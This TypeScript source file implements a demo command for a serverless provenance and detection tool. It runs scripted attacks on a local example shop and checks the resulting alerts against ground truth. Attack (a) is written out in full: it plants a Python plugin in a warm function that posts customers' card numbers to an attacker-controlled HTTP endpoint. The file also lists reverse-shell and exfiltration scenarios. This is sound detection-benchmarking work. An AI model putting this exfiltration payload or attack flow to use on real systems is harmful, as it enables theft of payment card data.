/**
 * faasprov demo --attack a|b|c|d|e: runs an attack scenario against the running example shop
 * (examples/shop, `faasprov functions up`), with benign traffic, waits for its alert and tells
 * the attack's story from the attack view. Writes the scenario's ground truth with --truth.
 */
import { randomUUID } from 'node:crypto';
import { existsSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join, resolve } from 'node:path';
import { invocationTruth, type AlertNode, type TruthRef, type ViewNode } from '@faasprov/model';
import type { AttackView } from '@faasprov/graph-service';
import { printable, viewNodeLabel } from '@faasprov/graph-service';
import { ApiClient } from '../api-client.js';
import { FunctionsErrors } from '../errors.js';
import { hostAddress } from '../functions/network.js';
import { alive, readState, stateFileFor } from '../functions/state.js';
import { attackD } from './demo-attack-d.js';
import { attackB, attackC, attackE } from './demo-attacks.js';
import type { ShopTruth, ViewDirection } from './demo-truth.js';
import { removePlugin, type BenignTraffic } from './demo-shop.js';

export interface DemoCliOptions {
  attack: string;
  file: string;
  store: string;
  server?: string;
  key?: string;
  truth?: string;
  waitS: number;
  /** Print the story as JSON (alert, view, truth) instead of words. */
  json?: boolean;
  /** Print the scripted attacks as JSON and run nothing. */
  list?: boolean;
}

/** What attack (a) did: the nodes and edges a complete story must hold. */
export interface GroundTruth {
  attack: 'a';
  /** The invocation that planted the payload, then the innocent one that ran it. */
  plant: string;
  victim: string;
  function: 'authorize-cc';
  /** The payload in the function's code directory (path on this node). */
  payload: string;
  attacker: { address: string; port: number };
  /** What the attacker received (the victim's card number). */
  stolen: string;
  /** Benign calls made alongside (function and call id). */
  benign: { function: string; callId: string }[];
  /** Edges as TYPE from to, naming nodes: plant, victim (their units), payload, attacker. */
  edges: [string, string, string][];
  /** The nodes the attack view must show (with the alert), as the attack-precision benchmark reads them. */
  nodes: TruthRef[];
}

/**
 * The scripted attacks (`faasprov demo --list`). The attack-precision benchmark runs each of them
 * against the shop and measures the attack view from its alert against its ground truth's `nodes`.
 */
export const SCRIPTED_ATTACKS: { attack: string; title: string }[] = [
  { attack: 'a', title: 'warm-container reuse: a payload planted by one invocation steals the card of a later one' },
  { attack: 'd', title: "a GPU buffer left by one invocation and read by another: photos' staging buffer read back by an attacker" },
  { attack: 'b', title: 'exfiltration through the shared volume: cards stashed on the catalog volume by authorize-cc, read out through catalog' },
  { attack: 'c', title: 'a reverse shell from an authorize-cc invocation to the attacker' },
  { attack: 'e', title: 'a mounted secret read inside an invocation, then used to call publish through the gateway' },
];

const VICTIM_CARD = '4111111111111111';

/** The attacker's server: serves the "card-network plugin" and keeps what is posted to it. */
async function attackerServer(host: string): Promise<{ server: Server; port: number; stolen: string[] }> {
  const stolen: string[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => { body += c.toString(); });
    req.on('end', () => {
      if (req.method === 'POST') stolen.push(body);
      const { port } = server.address() as AddressInfo;
      const payload = req.url === '/card-network.py'
        ? [
          'import json, urllib.request',
          'def on_authorize(req):',
          `    urllib.request.urlopen('http://${host}:${port}/collect', data=json.dumps({'card': req.get('card')}).encode(), timeout=5).read()`,
          '',
        ].join('\n')
        : 'ok';
      res.writeHead(200, { 'content-type': 'text/plain' }).end(payload);
    });
  });
  await new Promise<void>((r) => server.listen(0, host, () => r()));
  return { server, port: (server.address() as AddressInfo).port, stolen };
}

async function call(gateway: string, fn: string, body: unknown, callId: string): Promise<string> {
  const r = await fetch(`${gateway}/function/${fn}`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-call-id': callId }, body: JSON.stringify(body) });
  const text = await r.text();
  if (!r.ok) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', `${fn} answered ${r.status}: ${text.slice(0, 200)}`);
  return r.headers.get('x-call-id') ?? callId;
}

/** Benign shop traffic: purchases (price and card in parallel, then publish) and catalog updates. */
export async function benignTraffic(gateway: string, rounds: number, purchases = true, catalog = true): Promise<GroundTruth['benign']> {
  const out: GroundTruth['benign'] = [];
  const products = ['mug', 'tee', 'cap'];
  for (let i = 0; i < rounds; i++) {
    const id = `benign-${randomUUID().slice(0, 8)}`;
    const p = products[i % products.length]!;
    const calls: Promise<string>[] = [];
    if (catalog) calls.push(call(gateway, 'catalog', { id: `${p}-${i}`, name: p, rev: i }, `${id}-catalog`).then((c) => (out.push({ function: 'catalog', callId: c }), c)));
    if (purchases) calls.push(call(gateway, 'purchase', { product: p, card: '5555555555554444' }, `${id}-purchase`).then((c) => (out.push({ function: 'purchase', callId: c }), c)));
    else calls.push(call(gateway, 'get-price', { product: p }, `${id}-price`).then((c) => (out.push({ function: 'get-price', callId: c }), c)));
    await Promise.all(calls);
  }
  return out;
}

/** Attack (a), warm-container reuse, as the user would see it; returns the ground truth. */
export async function attackA(stackFile: string, log: (s: string) => void): Promise<GroundTruth> {
  const stack = resolve(stackFile);
  const state = readState(stateFileFor(dirname(stack)));
  if (!state || state.subnet === undefined || !state.gateway || !alive(state.pid, state.start)) throw FunctionsErrors.FP_ERR_DEMO_NOT_UP(stack);
  const gateway = state.gateway;
  // Instances reach nothing but their bridge: the attacker listens on this host's side of it.
  const host = hostAddress(state.subnet);
  const attacker = await attackerServer(host);
  const payload = join(dirname(stack), 'build', 'authorize-cc', 'function', 'plugins', 'card-network.py');
  try {
    log(`benign traffic: purchases and catalog updates`);
    const benign = await benignTraffic(gateway, 3);
    const tag = randomUUID().slice(0, 8);
    log(`attack (a): an exploited authorize-cc fetches a "card-network plugin" from the attacker at ${host}:${attacker.port} into its code directory`);
    const [plant, more] = await Promise.all([
      call(gateway, 'authorize-cc', { card: '4000000000000002', product: 'mug', network_plugin_url: `http://${host}:${attacker.port}/card-network.py` }, `attack-a-plant-${tag}`),
      benignTraffic(gateway, 2, false),
    ]);
    if (!existsSync(payload)) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', `the payload did not land at ${payload}`);
    log(`attack (a): later, an innocent customer's card goes through the same warm authorize-cc`);
    const victim = await call(gateway, 'authorize-cc', { card: VICTIM_CARD, product: 'tee' }, `attack-a-victim-${tag}`);
    const stolen = attacker.stolen.join('\n');
    if (!stolen.includes(VICTIM_CARD)) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', 'the attacker did not receive the card');
    log(`the attacker received: ${stolen}`);
    return {
      attack: 'a', plant, victim, function: 'authorize-cc', payload, attacker: { address: host, port: attacker.port }, stolen, benign: [...benign, ...more],
      edges: [['USED', 'plant', 'attacker'], ['WAS_GENERATED_BY', 'payload', 'plant'], ['USED', 'victim', 'payload'], ['USED', 'victim', 'attacker']],
      nodes: [
        ...invocationTruth(plant), ...invocationTruth(victim), { type: 'File', match: { path: payload }, written: true },
        { type: 'Endpoint', match: { address: host, port: attacker.port } },
      ],
    };
  } finally {
    // The planted plugin would steal every later card; the scenario removes it (and the folder it made) when done.
    removePlugin(payload);
    await new Promise<void>((r) => attacker.server.close(() => r()));
  }
}

/** The alert an invocation raised (its subject is a unit of it); rules: the most telling first. */
async function invocationAlert(api: ApiClient, attack: string, fn: string, callId: string, rules: string[], waitS: number): Promise<AlertNode> {
  const end = Date.now() + waitS * 1000;
  while (Date.now() < end) {
    const { alerts } = await api.json<{ alerts: AlertNode[] }>(`/api/v1/alerts?limit=500&offset=0&function=${encodeURIComponent(fn)}`);
    const units = new Map<string, string | undefined>();
    for (const a of alerts) {
      if (units.has(a.subject)) continue;
      const r = await api.json<{ node: { callId?: string } }>(`/api/v1/nodes/${encodeURIComponent(a.subject)}`).catch(() => undefined);
      units.set(a.subject, r?.node.callId);
    }
    const ofIt = alerts.filter((a) => units.get(a.subject) === callId);
    ofIt.sort((x, y) => (rules.indexOf(x.rule) + 99) % 99 - (rules.indexOf(y.rule) + 99) % 99);
    if (ofIt.length > 0) return ofIt[0]!;
    await new Promise((r) => setTimeout(r, 500));
  }
  throw FunctionsErrors.FP_ERR_DEMO_ATTACK(attack, `no alert about invocation ${callId} within ${waitS} s`);
}

/** The invocations an alert names in its summary ("invocation ID ..."): the chain the story follows. */
export function namedInvocations(alert: AlertNode): string[] {
  return [...new Set([...alert.summary.matchAll(/invocation (\S+)/g)].map((m) => m[1]!))];
}

/** Where the steps left out of the story are, only when there are any. */
function moreSteps(n: number, fullCommand: string): string[] {
  if (n <= 0) return [`  (the whole provenance: ${fullCommand})`];
  return [`  (${n} more ${n === 1 ? 'step' : 'steps'} of start-up and other invocations: ${fullCommand})`];
}

/**
 * The story in plain words: the alert, then the numbered steps of the invocations it names, from
 * the backward attack view of the alerted invocation (which also holds what that invocation did
 * after the alert, such as sending the card out), and the invocations, files and addresses involved.
 */
export function story(alert: AlertNode, v: AttackView, fullCommand: string, callIds: string[] = []): string {
  const named = [...new Set([...namedInvocations(alert), ...callIds])];
  const ofChain = (s: string) => named.some((id) => s.startsWith(`invocation ${id} `));
  const steps = v.steps.filter(ofChain);
  const lines = [
    `ALERT (${alert.severity}) ${alert.rule} in ${alert.function ?? 'a function'}: ${printable(alert.summary)}`,
    '',
    'What happened, step by step:',
    ...steps.map((s, i) => `  ${String(i + 1).padStart(2)}. ${printable(s)}`),
    ...moreSteps(v.steps.length - steps.length, fullCommand),
    '',
  ];
  const mentioned = (n: ViewNode) => n.type === 'Invocation'
    ? named.includes(String((n as { callId?: string }).callId))
    : steps.some((s) => s.includes(` ${viewNodeLabel(n).replace(/^\S+ /, '').replace(/ @.*$/, '')}`));
  const kept = (t: ViewNode['type']) => v.nodes.filter((n) => n.type === t && mentioned(n)).map((n) => viewNodeLabel(n));
  lines.push(`Invocations: ${kept('Invocation').join('; ') || '-'}`, `Files: ${kept('File').join('; ') || '-'}`, `Addresses: ${kept('Endpoint').join('; ') || '-'}`);
  const buffers = v.nodes.filter((n) => n.type === 'GpuBuffer' && steps.some((st) => st.includes(`GPU buffer ${(n as { ptr: string }).ptr}`)));
  if (buffers.length > 0) lines.push(`GPU buffers: ${buffers.map((n) => viewNodeLabel(n)).join('; ')}`);
  return lines.join('\n') + '\n';
}

/** The Invocation node an alert is about (its subject is a unit of it). */
export async function alertInvocation(api: ApiClient, alert: AlertNode): Promise<string> {
  const { node } = await api.json<{ node: { callId?: string } }>(`/api/v1/nodes/${encodeURIComponent(alert.subject)}`);
  if (!node.callId) throw FunctionsErrors.FP_ERR_DEMO_ATTACK('a', `alert ${alert.id} is not about an invocation`);
  const r = await api.json<{ invocations: { id: string }[] }>(`/api/v1/invocations/${encodeURIComponent(node.callId)}`);
  return r.invocations[0]!.id;
}

/** The backward attack view from the alerted invocation, once it holds the whole chain (the exfiltration is stored a moment after the alert). */
export async function invocationView(api: ApiClient, invocationId: string, until: (v: AttackView) => boolean, waitS = 15): Promise<AttackView> {
  const q = new URLSearchParams({ from: invocationId, direction: 'backward', depth: '64', view: 'attack' });
  let v = await api.json<AttackView>(`/api/v1/trace?${q}`);
  for (let i = 0; i < waitS * 2 && !until(v); i++) {
    await new Promise((r) => setTimeout(r, 500));
    v = await api.json<AttackView>(`/api/v1/trace?${q}`);
  }
  return v;
}

/** A scripted attack once run: its ground truth, the invocation its alert is about, and when its story is complete. */
interface ScenarioRun {
  truth: { attack: string; function: string };
  alerted: string;
  /** The most telling alerts first. */
  rules: string[];
  complete: (v: AttackView) => boolean;
}

const SCENARIOS: Record<string, (file: string, log: (s: string) => void) => Promise<ScenarioRun>> = {
  a: async (file, log) => {
    const t = await attackA(file, log);
    const attacker = `${t.attacker.address}:${t.attacker.port}`;
    return {
      truth: t, alerted: t.victim, rules: ['code-from-another-invocation', 'egress-outside-allow-list', 'cross-invocation-flow'],
      complete: (v) => v.steps.some((st) => st.startsWith(`invocation ${t.victim} `) && st.includes(attacker)),
    };
  },
  d: async (file, log) => {
    const t = await attackD(file, log, (gw) => benignTraffic(gw, 2, false));
    return { truth: t, alerted: t.reader, rules: ['gpu-buffer-cross-read'], complete: (v) => v.steps.some((st) => st.startsWith(`invocation ${t.reader} `) && st.includes('GPU buffer')) };
  },
};

/** The attacks written as ShopTruth (demo-attacks.ts); benign traffic is passed in, run before and alongside. */
const SHOP_ATTACKS: Record<string, (file: string, log: (s: string) => void, benign: BenignTraffic) => Promise<ShopTruth>> = {
  b: attackB, c: attackC, e: attackE,
};

/** The call ids an alert is about: its subject's, or, for a process an invocation spawned, the units its short backward trace reaches. */
async function alertCallIds(api: ApiClient, alert: AlertNode): Promise<string[]> {
  const r = await api.json<{ node: { callId?: string } }>(`/api/v1/nodes/${encodeURIComponent(alert.subject)}`).catch(() => undefined);
  if (r?.node.callId) return [r.node.callId];
  const q = new URLSearchParams({ from: alert.id, direction: 'backward', depth: '4' });
  const t = await api.json<{ nodes: { type: string; callId?: string }[] }>(`/api/v1/trace?${q}`).catch(() => ({ nodes: [] }));
  return t.nodes.filter((n) => n.type === 'Unit' && n.callId).map((n) => n.callId!);
}

/** The alert of one of the truth's rules about its alerted invocation, the most telling rule first. */
async function truthAlert(api: ApiClient, truth: ShopTruth, waitS: number): Promise<AlertNode> {
  const end = Date.now() + waitS * 1000;
  const about = new Map<string, string[]>();
  while (Date.now() < end) {
    const { alerts } = await api.json<{ alerts: AlertNode[] }>(`/api/v1/alerts?limit=500&offset=0&function=${encodeURIComponent(truth.function)}`);
    const candidates = alerts.filter((a) => truth.rules.includes(a.rule)).sort((x, y) => truth.rules.indexOf(x.rule) - truth.rules.indexOf(y.rule));
    for (const a of candidates) {
      if (!about.has(a.id)) about.set(a.id, await alertCallIds(api, a));
      if (about.get(a.id)!.includes(truth.alerted)) return a;
    }
    await new Promise((r) => setTimeout(r, 500));
  }
  throw FunctionsErrors.FP_ERR_DEMO_ATTACK(truth.attack, `no ${truth.rules.join(' or ')} alert about invocation ${truth.alerted} within ${waitS} s`);
}

/**
 * The truth's attack views from the alerted invocation (backward: how it happened; forward: what
 * it did next), once they hold every invocation of the truth and stop growing (the last batches
 * are stored a moment after the alert).
 */
async function truthViews(api: ApiClient, inv: string, truth: ShopTruth, waitS = 20): Promise<Partial<Record<ViewDirection, AttackView>>> {
  const get = async () => {
    const out: Partial<Record<ViewDirection, AttackView>> = {};
    for (const d of truth.views) out[d] = await api.json<AttackView>(`/api/v1/trace?${new URLSearchParams({ from: inv, direction: d, depth: '64', view: 'attack' })}`);
    return out;
  };
  const size = (v: Partial<Record<ViewDirection, AttackView>>) => Object.values(v).reduce((n, x) => n + x.nodes.length + x.edges.length, 0);
  const calls = Object.values(truth.invocations);
  // Each invocation by its units (the kernel's work), not only its Invocation node (which a caller's span can bring first).
  const whole = (v: Partial<Record<ViewDirection, AttackView>>) => calls.every((c) => Object.values(v).some((x) => x.nodes.some((n) => n.type === 'Unit' && (n as { callId?: string }).callId === c)));
  let v = await get();
  for (let i = 0, last = -1, steady = 0; i < waitS; i++) {
    steady = size(v) === last ? steady + 1 : 0;
    if (whole(v) && steady >= 2) break;
    last = size(v);
    await new Promise((r) => setTimeout(r, 1000));
    v = await get();
  }
  return v;
}

/**
 * The truth as `{type, match, written}` references (the attack-precision benchmark's shape). A
 * file known only as what one invocation wrote (`by`) is named by id, from that invocation's own
 * activity (the kernel's record of it, not the view).
 */
async function truthRefs(api: ApiClient, truth: ShopTruth): Promise<TruthRef[]> {
  const refs: TruthRef[] = Object.values(truth.invocations).flatMap((c) => invocationTruth(c));
  for (const f of Object.values(truth.files)) {
    const where = { path: f.path, ...(f.volume ? { volume: f.volume } : {}) };
    if (!f.written) refs.push({ type: 'File', match: { ...where, version: 0 } });
    else if (f.by === undefined) refs.push({ type: 'File', match: where, written: true });
    else {
      const r = await api.json<{ timeline: { action: string; object: { id: string; type: string; path?: string; volume?: string; version?: number } }[] }>(`/api/v1/invocations/${encodeURIComponent(truth.invocations[f.by]!)}`);
      const ids = new Set(r.timeline.filter((t) => t.action === 'WAS_GENERATED_BY' && t.object.type === 'File' && t.object.path === f.path && t.object.volume === f.volume && Number(t.object.version) > 0).map((t) => t.object.id));
      for (const id of ids) refs.push({ type: 'File', match: { id } });
    }
  }
  for (const ep of Object.values(truth.endpoints)) refs.push({ type: 'Endpoint', match: { address: ep.address, port: ep.port } });
  // Every image of the spawned process's pid: the fork of the function's runtime and what it became.
  for (const p of Object.values(truth.processes)) if (p.pid !== undefined) refs.push({ type: 'Process', match: { pid: p.pid } });
  return refs;
}

/** Runs attack b, c or e, waits for its alert and prints its story (or, with --json, the alert, views and truth). */
async function shopAttack(o: DemoCliOptions, run: (typeof SHOP_ATTACKS)[string]): Promise<number> {
  const log = (s: string) => process.stderr.write(`faasprov demo: ${s}\n`);
  // An instance serves one request at a time (max_inflight 1): alongside an attack, benign calls keep off the functions it keeps busy.
  const truth = await run(o.file, log, (gw, busy) => benignTraffic(gw, 2, !busy.some((f) => ['purchase', 'authorize-cc', 'publish'].includes(f)), !busy.includes('catalog')));
  if (o.truth) writeFileSync(o.truth, JSON.stringify(truth, null, 2) + '\n');
  log('waiting for the alert');
  const api = new ApiClient(o);
  try {
    const alert = await truthAlert(api, truth, o.waitS);
    const r = await api.json<{ invocations: { id: string }[] }>(`/api/v1/invocations/${encodeURIComponent(truth.alerted)}`);
    const inv = r.invocations[0]!.id;
    const views = await truthViews(api, inv, truth);
    truth.nodes = await truthRefs(api, truth);
    let text: string;
    if (o.json) text = JSON.stringify({ alert, invocation: inv, view: views[truth.views[0]!], views, truth }, null, 2) + '\n';
    else {
      const calls = Object.values(truth.invocations);
      text = story(alert, views[truth.views[0]!]!, `faasprov trace ${inv} --${truth.views[0]} --view attack`, calls);
      const next = views.forward && truth.views[0] !== 'forward' ? views.forward.steps.slice(0, 30) : [];
      if (next.length > 0) text += ['', 'What it did next (forward from the invocation):', ...next.map((st, i) => `  ${String(i + 1).padStart(2)}. ${printable(st)}`), ''].join('\n');
      text += `\nThe attacker got: ${truth.got}\n`;
    }
    await new Promise<void>((res) => process.stdout.write(text, () => res()));
    return 0;
  } finally {
    await api.close();
  }
}

export async function demoCommand(o: DemoCliOptions): Promise<number> {
  if (o.list) {
    process.stdout.write(JSON.stringify(SCRIPTED_ATTACKS) + '\n');
    return 0;
  }
  const shop = SHOP_ATTACKS[o.attack];
  if (shop) return shopAttack(o, shop);
  const scenario = SCENARIOS[o.attack];
  if (!scenario) {
    process.stderr.write(`faasprov: attack ${o.attack} is not scripted yet; scripted: ${[...Object.keys(SCENARIOS), ...Object.keys(SHOP_ATTACKS)].sort().join(', ')}\n`);
    return 2;
  }
  const log = (s: string) => process.stderr.write(`faasprov demo: ${s}\n`);
  const { truth, alerted, rules, complete } = await scenario(o.file, log);
  if (o.truth) writeFileSync(o.truth, JSON.stringify(truth, null, 2) + '\n');
  log('waiting for the alert');
  const api = new ApiClient(o);
  try {
    const alert = await invocationAlert(api, o.attack, truth.function, alerted, rules, o.waitS);
    const inv = await alertInvocation(api, alert);
    const v = await invocationView(api, inv, complete);
    const text = o.json ? JSON.stringify({ alert, invocation: inv, view: v, truth }, null, 2) + '\n' : story(alert, v, `faasprov trace ${inv} --backward --view attack`);
    // process.exit follows: a pipe must have taken all of it first.
    await new Promise<void>((r) => process.stdout.write(text, () => r()));
    return 0;
  } finally {
    await api.close();
  }
}
